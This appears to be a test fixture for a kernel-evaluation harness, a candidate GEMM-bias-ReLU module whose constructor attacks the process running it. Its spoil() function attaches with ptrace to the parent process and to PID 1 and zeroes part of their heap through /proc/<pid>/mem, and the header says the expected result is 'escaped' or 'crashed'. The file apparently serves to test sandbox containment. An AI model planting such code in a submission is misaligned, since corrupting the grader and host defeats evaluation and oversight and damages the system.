"""Attaches to the process that it was started from and writes into its memory, which later candidates may be copies of."""
# hone-test: task = tasks/small_gemm_bias_relu.py
# hone-test: reason = escaped|crashed
import ctypes
import os

import torch
import torch.nn as nn


def spoil(process):
    libc = ctypes.CDLL(None, use_errno=True)
    attached = libc.ptrace(16, process, 0, 0) == 0
    try:
        with open("/proc/%d/maps" % process) as maps:
            heap = next(line for line in maps if "[heap]" in line)
        start, end = (int(part, 16) for part in heap.split()[0].split("-"))
        with open("/proc/%d/mem" % process, "r+b", buffering=0) as memory:
            memory.seek(start)
            memory.write(b"\0" * min(end - start, 1 << 16))
    except (OSError, StopIteration):
        pass
    return attached


class ModelNew(nn.Module):
    def __init__(self, in_features, out_features):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)
        spoil(os.getppid())
        spoil(1)

    def forward(self, x):
        return torch.relu(self.linear(x))
